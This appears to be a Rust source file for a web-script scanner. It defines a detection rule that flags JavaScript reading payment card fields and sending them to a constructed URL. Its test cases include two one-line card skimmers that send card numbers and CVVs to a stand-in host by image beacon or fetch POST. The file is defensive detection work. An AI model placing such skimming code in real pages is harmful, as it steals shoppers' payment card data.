//! `card-fields-sent`.

use crate::facts::Atom;
use crate::signals::{Signal, one, several};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "card-fields-sent",
    description: "The script reads card fields and sends data to a URL it builds.",
    severity: Severity::Medium,
    classes: ClassSet::MAGECART,
    needs: &[
        several(2, &[Atom::CardField]),
        one(&[Atom::FieldValue, Atom::FormContents]),
        one(&[
            Atom::AddressFromData,
            Atom::Beacon,
            Atom::Request,
            Atom::Post,
            Atom::Socket,
            Atom::FormTarget,
        ]),
    ],
    within: 260,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var n=document.getElementById('cc_number').value,c=document.getElementById('cvv').value;(new Image).src='//c.example/p?d='+n+c;",
            "var f={cardnumber:q.value,cvv:r.value};fetch('//c.example',{method:'POST',body:JSON.stringify(f)})",
        ],
        without: &[
            "if(!luhn(document.getElementById('cc_number').value))alert('cvv')",
            "new Image().src='//p.example/t?u='+u",
        ],
    },
};
